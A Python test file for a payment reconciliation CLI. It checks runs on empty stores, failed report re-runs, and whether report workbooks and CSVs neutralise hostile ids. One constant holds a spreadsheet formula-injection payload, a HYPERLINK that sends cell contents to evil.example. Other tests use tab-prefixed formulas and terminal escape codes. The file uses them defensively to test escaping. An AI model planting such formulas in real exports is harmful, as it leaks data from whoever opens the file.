"""Issue 9 from the store: `paybridge reconcile` in ordinary states (requests but no receipts yet,
nothing at all), report packs that cannot attack their readers, and a failed `--report` re-run
that leaves the previous pack whole."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from chainenv import ChainEnv, cli_config, run_cli
from paybridge_reconciliation.inputs import read_requests
from recon_store_helpers import pay_scenario, paybridge_config, payer
from sqlalchemy.orm import Session
from typer.testing import CliRunner

import paybridge.recon_runs.report as report_module
from paybridge.cli.main import app
from paybridge.recon_runs.report import write_report
from paybridge.recon_runs.run import reconcile_store
from paybridge.store.models import PaymentRequest

pytestmark = pytest.mark.anvil
EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'


def test_cli_reconcile_right_after_requests_create(
    env: ChainEnv, tmp_path: Path, sqlite_url: str
) -> None:
    env.make_request("USDC", 100 * 10**6)
    config = cli_config(env, tmp_path, sqlite_url)
    run = run_cli(config, "reconcile", "--json", "--report", str(tmp_path / "pack"))
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    summary = json.loads(run.stdout)
    assert summary["requests"] == 1 and summary["receipts"] == 0
    assert summary["completed"] == []
    assert (tmp_path / "pack" / "manifest.json").exists()


def test_cli_reconcile_with_an_empty_store(env: ChainEnv, tmp_path: Path, sqlite_url: str) -> None:
    config = cli_config(env, tmp_path, sqlite_url)
    run = run_cli(config, "reconcile", "--json")
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout)["requests"] == 0


def _hostile_request(env: ChainEnv, customer: str, invoice: str) -> str:
    """A request with hostile ids, paid (so they reach matches and journals, in the workbook)."""
    request = env.make_request("USDC", 100 * 10**6)
    env.pay_token(request.deposit_address, 100 * 10**6, sender=payer(env))
    with Session(env.engine) as session, session.begin():
        session.execute(
            sa.update(PaymentRequest)
            .where(PaymentRequest.id == request.id)
            .values(customer_id=customer, invoice_id=invoice)
        )
    return request.id


def _consistent(out: Path) -> dict:
    manifest = json.loads((out / "manifest.json").read_text())
    for name, sha in manifest["outputs"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == sha, name
    for entry in manifest["inputs"].values():
        assert hashlib.sha256((out / entry["file"]).read_bytes()).hexdigest() == entry["sha256"]
    return manifest


def test_report_pack_has_no_live_formula_and_survives_a_control_character(
    env: ChainEnv, tmp_path: Path
) -> None:
    _hostile_request(env, EVIL, "\t=1+2")
    _hostile_request(env, "C\x1b[2J", "INV\x07")
    env.mine(64)
    env.watcher().poll()
    reconcile_store(env.engine, paybridge_config(env))
    out = tmp_path / "pack"
    write_report(env.engine, out)
    book = openpyxl.load_workbook(out / "report.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'" + EVIL in texts and "C\\x1b[2J" in texts
    status = (out / "requests_status.csv").read_text()
    assert "\"'=HYPERLINK(" in status and "C\\x1b[2J" in status
    _consistent(out)


def test_report_pack_inputs_are_safe_and_reperform_the_same_matches(
    env: ChainEnv, tmp_path: Path
) -> None:
    """The inputs a pack keeps are CSVs an auditor may open too: no live formula there either,
    and reading them back (re-performance) recovers the hostile ids exactly."""
    request_id = _hostile_request(env, EVIL, "INV\x07\\x41")
    env.mine(64)
    env.watcher().poll()
    reconcile_store(env.engine, paybridge_config(env))
    out = tmp_path / "pack"
    write_report(env.engine, out)
    requests_csv = (out / "inputs" / "requests.csv").read_text()
    assert "\"'=HYPERLINK(" in requests_csv and ",=HYPERLINK" not in requests_csv
    assert "\x07" not in requests_csv and "INV\\x07\\\\x41" in requests_csv
    redo = run_reconcile_files(out / "inputs", tmp_path / "redo")
    assert redo == (out / "matches.csv").read_text()
    requests = read_requests(out / "inputs" / "requests.csv")
    mine = requests[requests["request_id"] == request_id]
    assert list(mine["customer_id"]) == [EVIL] and list(mine["invoice_id"]) == ["INV\x07\\x41"]


def run_reconcile_files(inputs: Path, out: Path) -> str:
    result = CliRunner().invoke(
        app,
        [
            "reconcile-files",
            "--requests", str(inputs / "requests.csv"),
            "--receipts", str(inputs / "receipts.csv"),
            "--rates", str(inputs / "rates.csv"),
            "--out", str(out),
            "--no-reports",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return (out / "matches.csv").read_text()


def test_failed_report_rerun_leaves_the_old_pack_whole(
    env: ChainEnv, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pay_scenario(env, settle_blocks=0)
    reconcile_store(env.engine, paybridge_config(env))
    out = tmp_path / "pack"
    first = write_report(env.engine, out)
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    env.make_request("USDC", 50 * 10**6)  # the re-run would describe different inputs

    def broken(*_args, **_kwargs):  # type: ignore[no-untyped-def]
        raise OSError("disk full")

    monkeypatch.setattr(report_module, "write_reports", broken)
    with pytest.raises(OSError, match="disk full"):
        write_report(env.engine, out)
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before
    assert _consistent(out) == first
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".pack")] == []
